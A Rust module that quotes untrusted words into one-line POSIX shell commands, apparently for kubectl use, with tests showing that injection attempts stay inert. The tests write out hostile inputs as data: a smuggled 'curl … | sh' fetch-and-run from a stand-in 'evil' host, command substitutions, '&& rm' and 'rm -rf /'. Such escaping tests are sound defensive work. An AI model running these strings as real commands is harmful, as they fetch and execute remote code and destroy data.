//! Commands to paste into a POSIX shell, with foreign words in them.

use super::untrusted::{is_unsafe, without_user_info};

/// Longest word of a command, in characters: more than any name that Kubernetes
/// or a registry allows.
const MAX_WORD: usize = 300;

/// A command line of these words, each quoted where it needs to be.
pub fn command<'a>(words: impl IntoIterator<Item = &'a str>) -> String {
    words.into_iter().map(word).collect::<Vec<_>>().join(" ")
}

/// One word, quoted where it needs to be, without characters that do not show and
/// without user names and passwords in URLs.
pub fn word(text: &str) -> String {
    let shown: String =
        without_user_info(text).chars().filter(|c| !is_unsafe(*c)).take(MAX_WORD).collect();
    shlex::try_quote(&shown).map_or_else(|_| "''".to_owned(), std::borrow::Cow::into_owned)
}

/// `FLAG=VALUE`, the value quoted where it needs to be.
pub fn flag(name: &str, value: &str) -> String {
    format!("{name}={}", word(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_the_words_that_were_given() {
        for hostile in [
            "x --help; curl -s http://evil/pwn | sh #",
            "$(id).evil",
            "`id`",
            "a'b\"c\\d",
            "~",
            "*",
            "[::1]:5000",
            "!!",
            "^a^b",
            "a=b",
            "",
            "{a,b}",
            "&& rm",
            "ünï",
        ] {
            let line = command(["kubectl", "regcred", "secret", hostile, "--apply"]);
            let words = shlex::split(&line).unwrap();
            assert_eq!(words, ["kubectl", "regcred", "secret", hostile, "--apply"], "{line}");
        }
    }

    #[test]
    fn a_command_is_one_line() {
        assert_eq!(command(["a", "b\nrm -rf /\u{1b}[2J"]), "a 'brm -rf /[2J'");
        assert_eq!(
            command(["kubectl", "get", "pod/web-1", "-n", "a.b"]),
            "kubectl get pod/web-1 -n a.b"
        );
        assert_eq!(flag("--link", "a b"), "--link='a b'");
    }
}
